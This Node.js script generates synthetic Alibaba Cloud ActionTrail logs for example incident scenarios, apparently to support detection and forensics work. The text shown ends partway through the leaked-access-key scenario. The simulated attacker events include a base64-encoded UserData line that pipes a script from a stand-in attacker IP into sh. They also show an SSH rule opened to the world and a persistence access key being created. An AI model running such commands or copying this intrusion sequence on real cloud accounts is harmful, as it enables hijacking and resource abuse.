#!/usr/bin/env node
/**
 * Generates the synthetic Alibaba Cloud ActionTrail trails of three example scenarios:
 *
 *   examples/alicloud-leaked-key/trail/          OSS delivery: AliyunLogs/Actiontrail/<region>/YYYY/MM/DD/*.gz
 *   examples/alicloud-rds-released/trail/        a JSON-array export + an SLS JSONL export (overlapping)
 *   examples/alicloud-ram-oss-exposure/trail/    two SLS GetLogs pages, JSON arrays (overlapping by a minute)
 *
 * Every event here was written by us: the account, users, keys, ids and IPs are placeholders
 * (account 1234567890123456; IPs from the documentation ranges 198.51.100.0/24, 203.0.113.0/24
 * and, for the "foreign" attacker, 192.0.2.0/24). The *shape* follows the published events in
 * /work/shared/data/actiontrail/samples (field names, value types, noise keys, key-order variety).
 *
 * Deterministic: no clock, no Math.random. Every id, delay, port and shuffle is derived from a
 * sha256 of a fixed label, so adding an event does not change the ids of the others.
 *
 *   node examples/_tools/make-actiontrail-examples.mjs          # (re)write the trails, print counts
 *   node examples/_tools/make-actiontrail-examples.mjs --check  # exit 1 if the files on disk differ
 *
 * Plain Node ESM (>= 20), no dependencies.
 */
import { createHash } from 'node:crypto';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { epoch, hex, iso, num, scenarioCounts, sha, shuffled, writeOrCheck } from './lib.mjs';

const EXAMPLES = join(dirname(fileURLToPath(import.meta.url)), '..');

// ─── deterministic helpers ──────────────────────────────────────────────────────────────

const B36 = 'abcdefghijklmnopqrstuvwxyz0123456789';
/** Lower-case alphanumerics, like the tail of an Alibaba Cloud resource id. */
const alnum = (label, n) => [...sha(`id:${label}`).subarray(0, n)].map((b) => B36[b % 36]).join('');
/** Upper-case UUID (version-5 layout), the most common ActionTrail eventId/requestId form. */
function uuid(label) {
  const h = hex(`uuid:${label}`, 32).toUpperCase();
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-5${h.slice(13, 16)}-${'89AB'[parseInt(h[16], 16) % 4]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

const compact = (ms) => iso(ms).replace(/[-:TZ]/g, ''); // YYYYMMDDHHMMSS

// ─── account, regions, shared identities ────────────────────────────────────────────────

const ACCOUNT = '1234567890123456';
const HZ = 'cn-hangzhou';
const SH = 'cn-shanghai';

const id = {
  instance: (label) => `i-bp1${alnum(label, 17)}`,
  sg: (label) => `sg-bp1${alnum(label, 17)}`,
  vpc: (label) => `vpc-bp1${alnum(label, 18)}`,
  vsw: (label) => `vsw-bp1${alnum(label, 18)}`,
  disk: (label) => `d-bp1${alnum(label, 17)}`,
  rds: (label) => `rm-bp1${alnum(label, 12)}`,
};

/** A RAM user in our account. */
const ramUser = (userName, principalId) => ({ type: 'ram-user', principalId, accountId: ACCOUNT, userName });

/**
 * An actor: who (userIdentity), from where (IP), with what (user agent), how (console session
 * or access key). `console` actors get a sessionContext and no accessKeyId, as in the samples.
 */
const consoleActor = (user, ip, mfa, ua) => ({ user, ip, ua, console: true, mfa });
const keyActor = (user, key, ip, ua) => ({ user, ip, ua, console: false, key });

const SLS_AUDIT = {
  user: {
    type: 'assumed-role',
    principalId: '316728349105762840:Common_Data_Access',
    accountId: ACCOUNT,
    userName: 'aliyunserviceroleforslsaudit:Common_Data_Access',
  },
  ip: 'audit.log.aliyuncs.com',
  ua: 'audit.log.aliyuncs.com',
  console: false,
  key: 'STS.NUgYrLnoC37mZZCNnAbez2fDQ',
  sts: true,
};
const SYSTEM_ECS = { user: { type: 'system', userName: 'ecs.aliyuncs.com' }, ip: 'ecs.aliyuncs.com', ua: 'ecs.aliyuncs.com', system: true };

// ─── service facts: endpoints, API versions, console hosts ───────────────────────────────

const SERVICES = {
  Ecs: { api: '2014-05-26', sdkHost: (r) => `ecs.${r}.aliyuncs.com`, shareHost: (r) => `ecs-${r}-share.aliyuncs.com`, console: 'ecs.console.aliyun.com', refType: 'ACS::ECS::Instance' },
  Vpc: { api: '2016-04-28', sdkHost: (r) => `vpc.${r}.aliyuncs.com`, shareHost: () => 'vpc-share.aliyuncs.com', console: 'vpc.console.aliyun.com' },
  Rds: { api: '2014-08-15', sdkHost: () => 'rds.aliyuncs.com', shareHost: () => 'rds-inc-share.aliyuncs.com', console: 'rdsnext.console.aliyun.com' },
  Ram: { api: '2015-05-01', sdkHost: () => 'ram.aliyuncs.com', shareHost: () => 'ram-share.aliyuncs.com', console: 'ram.console.aliyun.com', global: true },
  Ims: { api: '2019-08-15', sdkHost: () => 'ims.aliyuncs.com', shareHost: () => 'ims-share.aliyuncs.com', console: 'ram.console.aliyun.com', global: true },
  // OSS events are built by ossEvent(): the bucket travels in the host, not in the parameters.
  Oss: { api: '2019-05-17', console: 'aliyun-oss-console' },
};

/** Names that are reads: used to set eventRW (every 2026 event has it, sign-ins excepted). */
const READ_NAME = /^(Describe|Get|List|Query|Check)/;

// ─── top-level key orders seen in the samples ───────────────────────────────────────────
// Real events do not keep a stable key order; each event picks one of these by its label.
const ORDERS = [
  // like ecs-StopInstance.json / ims-CreateUser.json
  ['eventId', 'eventAttributes', 'eventVersion', 'responseElements', 'eventSource', 'requestParameters', 'sourceIpAddress', 'userAgent',
    'eventRW', 'eventType', 'referencedResources', 'resourceType', 'resourceName', 'userIdentity', 'serviceName', 'additionalEventData',
    'apiVersion', 'requestId', 'eventTime', 'isGlobal', 'acsRegion', 'eventName', 'errorCode', 'errorMessage', 'recipientAccountId'],
  // like ecs-RunInstances.json (alphabetical)
  ['acsRegion', 'additionalEventData', 'apiVersion', 'errorCode', 'errorMessage', 'eventAttributes', 'eventCategory', 'eventId', 'eventName',
    'eventRW', 'eventSource', 'eventTime', 'eventType', 'eventVersion', 'isGlobal', 'recipientAccountId', 'referencedResources',
    'requestId', 'requestParameters', 'resourceName', 'resourceType', 'responseElements', 'serviceName', 'sourceIpAddress', 'userAgent',
    'userIdentity'],
  // like ecs-Release.json / aassub-ConsoleSignin.json
  ['requestId', 'eventType', 'eventCategory', 'userIdentity', 'acsRegion', 'eventName', 'requestParameters', 'eventSource', 'serviceName',
    'eventTime', 'referencedResources', 'resourceType', 'resourceName', 'responseElements', 'userAgent', 'eventRW', 'eventId',
    'additionalEventData', 'errorCode', 'errorMessage', 'eventVersion', 'isGlobal', 'recipientAccountId', 'sourceIpAddress'],
];

function ordered(fields, order) {
  const out = {};
  for (const k of order) if (fields[k] !== undefined) out[k] = fields[k];
  for (const k of Object.keys(fields)) if (fields[k] !== undefined && !(k in out)) out[k] = fields[k];
  return out;
}

/** Gateway/console keys added to requestParameters, in the shapes the samples show. */
function noiseParams(label, actor, service, region, requestId, style) {
  const port = 10000 + num(`port:${label}`, 50000);
  const lang = num(`lang:${label}`, 3) === 0 ? 'en-US' : 'zh-CN';
  const svc = SERVICES[service];
  if (style === 'console-op') {
    // ecs-RunInstances.json: a console page calling the API
    return {
      ClientPort: port,
      'X-Acs-Client-Tls-Cipher-Suite': 'TLS_AES_256_GCM_SHA384',
      SourceRegionId: region,
      AcceptLanguage: lang,
      AcsProduct: service,
      'X-Acs-Client-Tls-Version': 'TLSv1.3',
    };
  }
  if (style === 'console-api') {
    // rds-RestartDBInstance.json / ims-CreateUser.json: console backend, inner gateway
    return {
      charset: 'UTF-8',
      AcsHost: svc.shareHost(region),
      AcsProduct: service,
      RequestId: requestId,
      AcceptLanguage: lang,
      HostId: svc.shareHost(region),
      ...(service === 'Ims' || service === 'Ram' ? { AkProxySuffix: 'ram' } : {}),
    };
  }
  if (actor.sts) {
    // the SLS Log Audit service role (see derived/polardb-DescribeDBClusters-xsiam-flattened.json)
    return { stsTokenPrincipalName: 'aliyunserviceroleforslsaudit/Common_Data_Access', AcsProduct: service, ClientPort: port, stsTokenPlayerUid: ACCOUNT };
  }
  // SDK / CLI call with an AccessKey
  return {
    AcsHost: svc.sdkHost(region),
    AcsProduct: service,
    RequestId: requestId,
    ClientPort: port,
    'X-Acs-Client-Tls-Version': num(`tls:${label}`, 4) === 0 ? 'TLSv1.2' : 'TLSv1.3',
    'X-Acs-Client-Tls-Cipher-Suite': 'TLS_AES_128_GCM_SHA256',
  };
}

/**
 * One ActionTrail event. `s`:
 *   label       unique, stable: ids, ports, key order and delivery delay derive from it
 *   time        ISO UTC, whole seconds
 *   name        eventName; service: Ecs | Vpc | Rds | Ram | Ims
 *   actor       from the constructors above
 *   params      the call's own parameters (flattened RPC keys), without gateway noise
 *   response    responseElements body without RequestId (added), or null for none
 *   refs        referencedResources {type: [ids]}
 *   error       {code, message}
 *   region      acsRegion (default cn-hangzhou)
 *   eventType   override (default: ConsoleOperation for console ECS/VPC pages, else ApiCall)
 */
function event(s) {
  const region = s.region ?? HZ;
  const svc = SERVICES[s.service];
  const actor = s.actor;
  const idForm = s.idForm ?? 'uuid';
  const eventId = idForm === 'lower' ? uuid(s.label).toLowerCase() : uuid(s.label);
  const requestId = s.requestId ?? eventId;
  const consoleOp = actor.console && (s.service === 'Ecs' || s.service === 'Vpc') && !s.eventType;
  const eventType = s.eventType ?? (consoleOp ? 'ConsoleOperation' : 'ApiCall');
  const style = actor.console ? (consoleOp ? 'console-op' : 'console-api') : 'sdk';
  const isRead = READ_NAME.test(s.name);
  const global = Boolean(svc.global);

  const own = { ...(global || s.noRegionId ? {} : { RegionId: region }), ...s.params };
  const noise = noiseParams(s.label, actor, s.service, region, requestId, style);
  // Noise keys either wrap the call's keys (StopInstance sample) or are mixed in (RunInstances sample).
  const requestParameters =
    num(`mix:${s.label}`, 2) === 0
      ? Object.fromEntries(shuffled(Object.entries({ ...noise, ...own }), `params:${s.label}`, ([k]) => k))
      : (() => {
          const { AcceptLanguage, ...head } = noise;
          return { ...head, ...own, ...(AcceptLanguage ? { AcceptLanguage } : {}) };
        })();

  const identity = actor.console
    ? {
        sessionContext: { attributes: { mfaAuthenticated: actor.mfa ? 'true' : 'false', creationDate: s.time } },
        ...actor.user,
      }
    : num(`ui:${s.label}`, 2) === 0
      ? { accessKeyId: actor.key, ...actor.user }
      : { ...actor.user, accessKeyId: actor.key };

  const refs = s.refs && Object.keys(s.refs).length > 0 ? s.refs : undefined;
  // resourceType/resourceName (added to events from 2020-12) are present on most events, not all.
  const flatRefs = refs && num(`rt:${s.label}`, 4) !== 0;
  const versionForm = actor.console ? '1' : num(`ver:${s.label}`, 3) === 0 ? '1' : 1;

  const fields = {
    eventId,
    eventVersion: versionForm,
    eventSource: actor.console ? svc.shareHost(region) : svc.sdkHost(region),
    requestParameters,
    sourceIpAddress: actor.ip,
    userAgent: actor.console ? svc.console : actor.ua,
    eventRW: isRead ? 'Read' : 'Write',
    eventType,
    eventCategory: num(`cat:${s.label}`, 2) === 0 ? 'Management' : undefined,
    referencedResources: refs,
    resourceType: flatRefs ? Object.keys(refs).join(';') : undefined,
    resourceName: flatRefs ? Object.values(refs).map((ids) => ids.join(',')).join(';') : undefined,
    userIdentity: identity,
    serviceName: s.service,
    additionalEventData: actor.console ? { CallerBid: '26842' } : { Scheme: 'https', CallerBid: '26842' },
    apiVersion: consoleOp ? '*' : svc.api,
    requestId,
    eventTime: s.time,
    isGlobal: global,
    acsRegion: region,
    eventName: s.name,
    responseElements: s.response === null || (s.response === undefined && (isRead || s.error)) ? undefined : { RequestId: requestId, ...s.response },
    errorCode: s.error?.code,
    errorMessage: s.error?.message,
    recipientAccountId: num(`rcpt:${s.label}`, 3) === 0 ? undefined : ACCOUNT,
    eventAttributes: s.sensitive ? { SensitiveAction: 'true' } : undefined,
  };
  return ordered(fields, ORDERS[num(`order:${s.label}`, ORDERS.length)]);
}

/** RAM-user console sign-in (AasSub), shaped like aassub-ConsoleSignin.json. */
function signin(label, time, actor, browser) {
  const ms = epoch(time);
  const sid = `1.167_${ms + num(`sid:${label}`, 900)}_${hex(`sid:${label}`, 4)}`;
  return ordered(
    {
      requestId: sid,
      eventType: 'ConsoleSignin',
      userIdentity: { accountId: ACCOUNT, principalId: actor.user.principalId, type: 'ram-user', userName: actor.user.userName },
      acsRegion: HZ,
      eventName: 'ConsoleSignin',
      eventSource: 'signin.aliyun.com',
      serviceName: 'AasSub',
      eventTime: time,
      userAgent: browser,
      eventId: sid,
      additionalEventData: {
        callbackUrl: 'https://homenew.console.aliyun.com/',
        mfaChecked: actor.mfa ? 'true' : 'false',
        loginAccount: `${actor.user.userName}@${ACCOUNT}.onaliyun.com`,
      },
      errorCode: '',
      errorMessage: '',
      eventVersion: '1',
      isGlobal: true,
      sourceIpAddress: actor.ip,
    },
    ORDERS[2],
  );
}

/**
 * One OSS management event, shaped like oss-PutBucket.json and the OSS `ListUserRegions` event in
 * actiontrail-LookupEvents-response.json: a 24-hex eventId (equal to requestId), apiVersion
 * 2019-05-17, the bucket as the first label of eventSource and, on most events, in referencedResources.
 *   bucket      the bucket the call is about (none for ListBuckets)
 *   params      requestParameters. OUR CHOICE: we log the ACL header `x-oss-acl` (PutBucket,
 *               PutBucketAcl) and PutBucket's body flattened (`CreateBucketConfiguration.StorageClass`).
 *               No published sample shows whether ActionTrail records them (FORMAT.md, api-params.md).
 *   noParams    no requestParameters at all, as in oss-PutBucket.json
 *   refsForm    'refs' (referencedResources), 'flat' (resourceType/resourceName only), 'host' (neither:
 *               the bucket is only in eventSource)
 *   internalIp  sourceIpAddress "Internal" and a `-cross` host, as in oss-PutBucket.json
 */
function ossEvent(s) {
  const region = s.region ?? HZ;
  const actor = s.actor;
  const eventId = hex(`oss:${s.label}`, 24).toUpperCase();
  const isRead = READ_NAME.test(s.name);
  const suffix = s.internalIp ? '-cross' : actor.console ? '-internal' : '';
  const host = `${s.bucket ? `${s.bucket}.` : ''}oss-${region}${suffix}.aliyuncs.com`;
  const refs = s.bucket ? { 'ACS::OSS::Bucket': [s.bucket] } : undefined;
  const refsForm = s.refsForm ?? 'refs';
  const identity = actor.console
    ? { sessionContext: { attributes: { mfaAuthenticated: actor.mfa ? 'true' : 'false', creationDate: s.time } }, ...actor.user }
    : num(`ui:${s.label}`, 2) === 0
      ? { accessKeyId: actor.key, ...actor.user }
      : { ...actor.user, accessKeyId: actor.key };
  const fields = {
    eventId,
    eventVersion: 1,
    eventSource: host,
    requestParameters: s.noParams ? undefined : { ...(actor.console ? {} : { HostId: host }), ...(s.params ?? {}) },
    sourceIpAddress: s.internalIp ? 'Internal' : actor.ip,
    userAgent: actor.console ? SERVICES.Oss.console : actor.ua,
    eventRW: isRead ? 'Read' : 'Write',
    eventType: actor.console ? 'ConsoleOperation' : 'ApiCall',
    referencedResources: refs && refsForm === 'refs' ? refs : undefined,
    resourceType: refs && refsForm === 'flat' ? 'ACS::OSS::Bucket' : undefined,
    resourceName: refs && refsForm === 'flat' ? s.bucket : undefined,
    userIdentity: identity,
    serviceName: 'Oss',
    additionalEventData: { CallerBid: '26842' },
    apiVersion: SERVICES.Oss.api,
    requestId: eventId,
    eventTime: s.time,
    isGlobal: false,
    acsRegion: region,
    eventName: s.name,
    errorCode: s.error?.code,
    errorMessage: s.error?.message,
    recipientAccountId: num(`rcpt:${s.label}`, 3) === 0 ? undefined : ACCOUNT,
    eventAttributes: s.sensitive ? { SensitiveAction: 'true' } : undefined,
  };
  return ordered(fields, ORDERS[s.order ?? num(`order:${s.label}`, ORDERS.length)]);
}

const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36';
const SAFARI = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15';

/** `HH:MM:SS` on `day` → ISO. */
const at = (day, hms) => `${day}T${hms}Z`;
const pad = (n) => String(n).padStart(2, '0');
const hms = (h, m, s) => `${pad(h)}:${pad(m)}:${pad(s)}`;

// ═════════════════════════════════════════════════════════════════════════════════════════
// Scenario 1: alicloud-leaked-key
// ═════════════════════════════════════════════════════════════════════════════════════════

function leakedKeyScenario() {
  const DAY = '2026-10-14';
  const t = (x) => at(DAY, x);

  const LEAKED = 'LTAI5tQ7mXn3Vb2KcR8pWz1Y'; // ci-deployer's AccessKey, leaked
  const NEWKEY = 'LTAI5tHn4Wq9Ls2Xe7Rd3Fb6'; // created by the attacker for ci-deployer

  const aliceUser = ramUser('ops-alice', '287654321098765432');
  const ciUser = ramUser('ci-deployer', '203456789012345678');
  const ALICE = consoleActor(aliceUser, '198.51.100.23', true);
  const CI = keyActor(ciUser, LEAKED, '203.0.113.10', 'AlibabaCloud-SDK-Go/1.63.15 (linux; amd64) Go/1.22.5');
  const ATTACKER = keyActor(ciUser, LEAKED, '192.0.2.77', 'aliyun-cli/3.0.200');
  const ATTACKER_NEWKEY = keyActor(ciUser, NEWKEY, '192.0.2.77', 'aliyun-cli/3.0.200');

  // Resources that predate the trail.
  const VPC = id.vpc('s1:vpc-prod');
  const VSW_H = id.vsw('s1:vsw-prod-h');
  const SG_PROD = id.sg('s1:sg-prod-web');
  const WEB1 = id.instance('s1:web-1');
  const WEB2 = id.instance('s1:web-2');
  const WORKER1 = id.instance('s1:worker-1');
  const LOADTEST = id.instance('s1:tmp-loadtest');
  const LOADTEST_DISK = id.disk('s1:tmp-loadtest-data');
  // Resources created inside the trail.
  const VSW_STAGING = id.vsw('s1:vsw-staging-j');
  const SG_PAY = id.sg('s1:sg-payments-https');
  const WORKER1_DISK = id.disk('s1:worker-batch-1-scratch');
  const EVIL = [1, 2, 3].map((n) => id.instance(`s1:attacker-${n}`));
  const IMAGE = 'ubuntu_22_04_x64_20G_alibase_20240926.vhd';

  const ev = [];
  const add = (s) => ev.push({ label: `s1:${s.label}`, time: s.time, record: event({ ...s, label: `s1:${s.label}` }) });
  const inst = (...ids) => ({ 'ACS::ECS::Instance': ids });
  const sgRef = (sg) => ({ 'ACS::ECS::SecurityGroup': [sg] });

  // ── CI: an inventory job lists instances every 30 minutes, all day ──
  for (let h = 0; h <= 6; h++) {
    for (const m of [13, 43]) {
      if (h === 0 && m < 43) continue;
      const label = `ci-poll-${h}-${m}`;
      add({ label, time: t(hms(h, m, 14 + num(label, 30))), name: 'DescribeInstances', service: 'Ecs', actor: CI,
        params: { PageSize: 100, PageNumber: 1, 'Tag.1.Key': 'env', 'Tag.1.Value': 'prod' } });
    }
  }
  // ── SLS Log Audit service role collects security groups hourly ──
  for (let h = 1; h <= 6; h++) {
    add({ label: `sls-audit-${h}`, time: t(hms(h, 17, 2)), name: 'DescribeSecurityGroups', service: 'Ecs', actor: SLS_AUDIT,
      params: { PageSize: 50, PageNumber: 1 } });
  }

  // ── ops-alice: morning maintenance through the console ──
  const a = ALICE;
  ev.push({ label: 's1:alice-signin', time: t('01:12:07'), record: signin('s1:alice-signin', t('01:12:07'), a, CHROME) });
  add({ label: 'alice-list-1', time: t('01:12:31'), name: 'DescribeInstances', service: 'Ecs', actor: a, params: { PageSize: 20, PageNumber: 1 } });
  add({ label: 'alice-status-1', time: t('01:12:31'), name: 'DescribeInstanceStatus', service: 'Ecs', actor: a, params: { PageSize: 50 } });
  add({ label: 'alice-stop-web2', time: t('01:31:40'), name: 'StopInstance', service: 'Ecs', actor: a,
    params: { InstanceId: WEB2, ForceStop: false, StoppedMode: 'KeepCharging' }, response: {}, refs: inst(WEB2) });
  add({ label: 'alice-disks', time: t('01:38:55'), name: 'DescribeDisks', service: 'Ecs', actor: a, params: { InstanceId: WEB2, PageSize: 20 } });
  add({ label: 'alice-start-web2', time: t('01:41:20'), name: 'StartInstance', service: 'Ecs', actor: a,
    params: { InstanceId: WEB2 }, response: {}, refs: inst(WEB2) });
  add({ label: 'alice-list-2', time: t('01:41:20'), name: 'DescribeInstances', service: 'Ecs', actor: a, params: { PageSize: 20, PageNumber: 1 } });
  add({ label: 'alice-vpcs', time: t('01:49:02'), name: 'DescribeVpcs', service: 'Vpc', actor: a, params: { PageSize: 10 } });
  add({ label: 'alice-vsws-1', time: t('01:49:30'), name: 'DescribeVSwitches', service: 'Vpc', actor: a, params: { VpcId: VPC, PageSize: 50 } });
  add({ label: 'alice-create-vsw', time: t('01:50:44'), name: 'CreateVSwitch', service: 'Vpc', actor: a,
    params: { VpcId: VPC, ZoneId: 'cn-hangzhou-j', CidrBlock: '10.0.32.0/20', VSwitchName: 'staging-j', Description: 'staging workloads' },
    response: { VSwitchId: VSW_STAGING }, refs: { 'ACS::VPC::VSwitch': [VSW_STAGING], 'ACS::VPC::VPC': [VPC] } });
  add({ label: 'alice-vsws-2', time: t('01:50:46'), name: 'DescribeVSwitches', service: 'Vpc', actor: a, params: { VpcId: VPC, PageSize: 50 } });
  add({ label: 'alice-attr-worker1', time: t('02:20:03'), name: 'DescribeInstanceAttribute', service: 'Ecs', actor: a, params: { InstanceId: WORKER1 } });
  add({ label: 'alice-rename-worker1', time: t('02:20:31'), name: 'ModifyInstanceAttribute', service: 'Ecs', actor: a,
    params: { InstanceId: WORKER1, InstanceName: 'worker-batch-1' }, response: {}, refs: inst(WORKER1) });
  add({ label: 'alice-create-disk', time: t('02:26:14'), name: 'CreateDisk', service: 'Ecs', actor: a,
    params: { ZoneId: 'cn-hangzhou-h', DiskCategory: 'cloud_essd', Size: 500, PerformanceLevel: 'PL1', DiskName: 'worker-batch-1-scratch',
      Encrypted: false, 'Tag.1.Key': 'owner', 'Tag.1.Value': 'ops' },
    response: { DiskId: WORKER1_DISK }, refs: { 'ACS::ECS::Disk': [WORKER1_DISK] } });
  add({ label: 'alice-attach-disk', time: t('02:26:52'), name: 'AttachDisk', service: 'Ecs', actor: a,
    params: { DiskId: WORKER1_DISK, InstanceId: WORKER1, DeleteWithInstance: false }, response: {},
    refs: { 'ACS::ECS::Disk': [WORKER1_DISK], 'ACS::ECS::Instance': [WORKER1] } });
  add({ label: 'alice-list-3', time: t('02:27:30'), name: 'DescribeInstances', service: 'Ecs', actor: a, params: { PageSize: 20, PageNumber: 1 } });

  // ── CI: a deploy creates an HTTPS security group for the payments service ──
  add({ label: 'ci-sgs', time: t('02:04:10'), name: 'DescribeSecurityGroups', service: 'Ecs', actor: CI,
    params: { VpcId: VPC, SecurityGroupName: 'svc-payments-https' } });
  add({ label: 'ci-create-sg', time: t('02:04:11'), name: 'CreateSecurityGroup', service: 'Ecs', actor: CI,
    params: { VpcId: VPC, SecurityGroupName: 'svc-payments-https', Description: 'payments ingress (managed by CI)', SecurityGroupType: 'normal',
      'Tag.1.Key': 'managed-by', 'Tag.1.Value': 'ci' },
    response: { SecurityGroupId: SG_PAY }, refs: sgRef(SG_PAY) });
  add({ label: 'ci-authorize-443', time: t('02:04:12'), name: 'AuthorizeSecurityGroup', service: 'Ecs', actor: CI,
    params: { SecurityGroupId: SG_PAY, 'Permissions.1.IpProtocol': 'tcp', 'Permissions.1.PortRange': '443/443',
      'Permissions.1.SourceCidrIp': '203.0.113.0/24', 'Permissions.1.Policy': 'accept', 'Permissions.1.Priority': '1',
      'Permissions.1.Description': 'https from partner range' },
    response: {}, refs: sgRef(SG_PAY) });
  add({ label: 'ci-sg-attr', time: t('02:04:12'), name: 'DescribeSecurityGroupAttribute', service: 'Ecs', actor: CI,
    params: { SecurityGroupId: SG_PAY, Direction: 'ingress' } });

  // ── The leaked key, from a foreign address, with the Alibaba Cloud CLI ──
  const x = ATTACKER;
  add({ label: 'evil-regions', time: t('03:02:11'), name: 'DescribeRegions', service: 'Ecs', actor: x, params: {}, noRegionId: true });
  add({ label: 'evil-list-hz', time: t('03:02:11'), name: 'DescribeInstances', service: 'Ecs', actor: x, params: { PageSize: 100 } });
  add({ label: 'evil-list-sh', time: t('03:02:12'), name: 'DescribeInstances', service: 'Ecs', actor: x, params: { PageSize: 100 }, region: SH });
  add({ label: 'evil-getuser', time: t('03:02:19'), name: 'GetUser', service: 'Ram', actor: x, params: { UserName: 'ci-deployer' },
    refs: { 'ACS::RAM::User': ['ci-deployer'] } });
  add({ label: 'evil-policies', time: t('03:02:25'), name: 'ListPoliciesForUser', service: 'Ram', actor: x, params: { UserName: 'ci-deployer' } });
  add({ label: 'evil-keys', time: t('03:02:26'), name: 'ListAccessKeys', service: 'Ram', actor: x, params: { UserName: 'ci-deployer' } });
  add({ label: 'evil-sgs', time: t('03:03:40'), name: 'DescribeSecurityGroups', service: 'Ecs', actor: x, params: { PageSize: 50 } });
  add({ label: 'evil-vsws', time: t('03:03:41'), name: 'DescribeVSwitches', service: 'Vpc', actor: x, params: { PageSize: 50 } });
  add({ label: 'evil-images', time: t('03:03:55'), name: 'DescribeImages', service: 'Ecs', actor: x,
    params: { ImageOwnerAlias: 'system', OSType: 'linux', ImageName: 'ubuntu_22_04*' } });
  add({ label: 'evil-run', time: t('03:04:38'), name: 'RunInstances', service: 'Ecs', actor: x,
    params: {
      ImageId: IMAGE, InstanceType: 'ecs.g7.8xlarge', Amount: 3, MinAmount: 3, ZoneId: 'cn-hangzhou-h',
      'NetworkInterface.1.SecurityGroupId': SG_PROD, 'NetworkInterface.1.VSwitchId': VSW_H, 'NetworkInterface.1.InstanceType': 'Primary',
      InstanceName: 'node', HostName: 'node', UniqueSuffix: true, InstanceChargeType: 'PostPaid', SpotStrategy: 'NoSpot',
      InternetChargeType: 'PayByTraffic', InternetMaxBandwidthOut: 100,
      'SystemDisk.Category': 'cloud_essd', 'SystemDisk.Size': 100, 'SystemDisk.PerformanceLevel': 'PL1',
      Password: '********',
      // "#!/bin/sh\ncurl -s http://192.0.2.77/i.sh | sh\n"
      UserData: Buffer.from('#!/bin/sh\ncurl -s http://192.0.2.77/i.sh | sh\n').toString('base64'),
      'Tag.1.Key': 'app', 'Tag.1.Value': 'batch-worker',
    },
    response: { TaskId: '', InstanceIdSets: { InstanceIdSet: EVIL }, TradePrice: 18.51 },
    refs: { 'ACS::ECS::Instance': EVIL, 'ACS::ECS::Image': [IMAGE] } });
  add({ label: 'evil-check', time: t('03:04:58'), name: 'DescribeInstances', service: 'Ecs', actor: x,
    params: { InstanceIds: JSON.stringify(EVIL) } });
  add({ label: 'evil-authorize-22', time: t('03:05:02'), name: 'AuthorizeSecurityGroup', service: 'Ecs', actor: x,
    params: { SecurityGroupId: SG_PROD, 'Permissions.1.IpProtocol': 'TCP', 'Permissions.1.PortRange': '22/22',
      'Permissions.1.SourceCidrIp': '0.0.0.0/0', 'Permissions.1.Policy': 'accept', 'Permissions.1.Priority': '1' },
    response: {}, refs: sgRef(SG_PROD), sensitive: true });
  add({ label: 'evil-create-key', time: t('03:06:30'), name: 'CreateAccessKey', service: 'Ram', actor: x,
    params: { UserName: 'ci-deployer' },
    response: { AccessKey: { AccessKeyId: NEWKEY, AccessKeySecret: '****', Status: 'Active', CreateDate: t('03:06:30') } },
    refs: { 'ACS::RAM::User': ['ci-deployer'] }, sensitive: true });
  add({ label: 'evil-attach-admin', time: t('03:07:10'), name: 'AttachPolicyToUser', service: 'Ram', actor: x,
    params: { PolicyType: 'System', PolicyName: 'AdministratorAccess', UserName: 'ci-deployer' },
    error: { code: 'NoPermission', message: 'You are not authorized to do this action. You should be authorized by RAM.' },
    refs: { 'ACS::RAM::User': ['ci-deployer'], 'ACS::RAM::Policy': ['AdministratorAccess'] }, sensitive: true });
  add({ label: 'evil-policies-2', time: t('03:07:45'), name: 'ListPoliciesForUser', service: 'Ram', actor: x, params: { UserName: 'ci-deployer' } });
  add({ label: 'evil-newkey-test', time: t('03:08:03'), name: 'DescribeRegions', service: 'Ecs', actor: ATTACKER_NEWKEY, params: {}, noRegionId: true });

  // ── ops-alice keeps working, unaware ──
  add({ label: 'alice-list-4', time: t('03:38:12'), name: 'DescribeInstances', service: 'Ecs', actor: a, params: { PageSize: 20, PageNumber: 1 } });
  add({ label: 'alice-desc-web1', time: t('03:41:09'), name: 'ModifyInstanceAttribute', service: 'Ecs', actor: a,
    params: { InstanceId: WEB1, Description: 'kernel patched 2026-10-14 (CHG-1042)' }, response: {}, refs: inst(WEB1) });
  add({ label: 'alice-sg-attr-1', time: t('04:15:22'), name: 'DescribeSecurityGroupAttribute', service: 'Ecs', actor: a,
    params: { SecurityGroupId: SG_PROD, Direction: 'all' } });
  add({ label: 'alice-authorize-443', time: t('04:15:58'), name: 'AuthorizeSecurityGroup', service: 'Ecs', actor: a,
    params: { SecurityGroupId: SG_PROD, 'Permissions.1.IpProtocol': 'TCP', 'Permissions.1.PortRange': '443/443',
      'Permissions.1.SourceCidrIp': '198.51.100.0/24', 'Permissions.1.Policy': 'accept', 'Permissions.1.Priority': 1,
      'Permissions.1.Description': 'office https' },
    response: {}, refs: sgRef(SG_PROD) });
  add({ label: 'alice-sg-attr-2', time: t('04:16:10'), name: 'DescribeSecurityGroupAttribute', service: 'Ecs', actor: a,
    params: { SecurityGroupId: SG_PROD, Direction: 'all' } });

  // ── CI: scheduled rolling reboot (a write with the leaked key, from the CI address) ──
  add({ label: 'ci-reboot-web1', time: t('05:30:41'), name: 'RebootInstance', service: 'Ecs', actor: CI,
    params: { InstanceId: WEB1, ForceStop: false }, response: {}, refs: inst(WEB1) });

  // ── System: the load-test instance reaches its auto-release time ──
  ev.push({ label: 's1:sys-release', time: t('05:00:00'), record: ordered({
    requestId: uuid('s1:sys-release').toLowerCase(),
    eventType: 'AliyunServiceEvent',
    userIdentity: SYSTEM_ECS.user,
    acsRegion: HZ,
    eventName: 'Release',
    requestParameters: { RegionId: 'cn-hangzhou-dg-a02' },
    eventSource: 'ecs.aliyuncs.com',
    serviceName: 'Ecs',
    eventTime: t('05:00:00'),
    referencedResources: inst(LOADTEST),
    userAgent: 'ecs.aliyuncs.com',
    eventRW: 'Write',
    eventId: uuid('s1:sys-release').toLowerCase(),
    additionalEventData: [],
    errorCode: '',
    errorMessage: '',
    eventVersion: '1',
    recipientAccountId: ACCOUNT,
    sourceIpAddress: 'Internal',
  }, ORDERS[2]) });
